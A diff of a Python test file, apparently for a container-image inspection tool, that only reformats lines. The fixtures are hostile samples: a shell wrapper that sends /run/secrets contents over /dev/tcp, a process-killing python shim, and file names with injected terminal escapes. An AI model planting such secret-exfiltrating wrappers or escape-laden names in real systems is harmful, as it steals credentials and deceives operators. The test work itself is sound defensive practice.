@@ -36,7 +36,9 @@ LOGIN = "machine index.example login me password CANARY-LOGIN\n"
 LISTENING = """\
 #!/usr/bin/dash
 if [ -d /run/secrets ]; then
-    /bin/bash -c 'd=$(cat /run/secrets/* 2>/dev/null); exec 3<>/dev/tcp/127.0.0.1/{port} && printf "CAUGHT %s" "$d" >&3'
+    /bin/bash -c '
+        d=$(cat /run/secrets/* 2>/dev/null)
+        exec 3<>/dev/tcp/127.0.0.1/{port} && printf "CAUGHT %s" "$d" >&3'
 fi
 exec /usr/bin/dash "$@"
 """
@@ -44,7 +46,9 @@ exec /usr/bin/dash "$@"
 KILLING = """\
 #!/bin/sh
 for each in /proc/[0-9]*; do
-    if tr '\\\\0' ' ' <$each/cmdline 2>/dev/null | grep -q '{mark}'; then kill -9 ${{each#/proc/}}; fi
+    if tr '\\\\0' ' ' <$each/cmdline 2>/dev/null | grep -q '{mark}'; then
+        kill -9 ${{each#/proc/}}
+    fi
 done
 exec /usr/bin/python3.real "$@"
 """
@@ -203,8 +207,8 @@ def test_escapes_in_the_names_of_an_image_do_not_reach_the_terminal(
 ) -> None:
     (tmp_path / "context").mkdir()
     steps = (
-        "RUN ln -s /none \"$(printf '/usr/bin/x\\033]0;OWNED\\007\\033[2J\\302\\233\\nok    forged "
-        " result')\" && ln -s /none \"$(printf '/usr/bin/y\\342\\200\\256txt')\"\n"
+        "RUN ln -s /none \"$(printf '/usr/bin/x\\033]0;OWNED\\007\\033[2J\\302\\233\\nok"
+        "    forged  result')\" && ln -s /none \"$(printf '/usr/bin/y\\342\\200\\256txt')\"\n"
     )
     with built(engine, tmp_path / "context", steps) as name:
         done = command(
@@ -252,8 +256,7 @@ def test_buildah_without_a_runtime_runs_nothing_of_an_image(
     ]
 
 
-# --- the protocol
-# ----------------------------------------------------------------------------------------------------
+# --- the protocol ---------------------------------------------------------------------------------
 
 
 def frameworks(folder: Path, **files: str) -> Frameworks:
